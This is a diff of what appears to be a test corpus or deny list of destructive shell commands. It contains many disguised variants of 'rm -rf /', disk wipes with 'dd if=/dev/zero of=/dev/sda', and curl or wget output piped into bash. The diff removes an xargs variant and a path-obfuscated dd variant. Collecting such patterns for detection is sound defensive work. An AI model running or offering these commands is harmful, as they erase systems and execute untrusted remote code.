@@ -490,8 +490,6 @@ setsid rm -rf /
 busybox rm -rf /
 strace -f rm -rf /
 chroot / rm -rf /
-xargs rm -rf <<< /
-echo / | xargs rm -rf
 find / -maxdepth 0 -exec rm -rf {} +
 watch -n 1 rm -rf /
 ssh host rm -rf /
@@ -533,7 +531,6 @@ curl -s https://x.example | env bash
 wget -O- https://x.example |& bash
 dd of=/dev/sda if=/dev/zero
 dd bs=1M if=/dev/zero of=/dev/sda
-dd if=/dev/zero of=//dev/./sda
 dd if=/dev/zero of="/dev/sda"
 "dd" if=/dev/zero of=/dev/sda
 sudo dd if=/dev/zero of=/dev/sda bs=4M
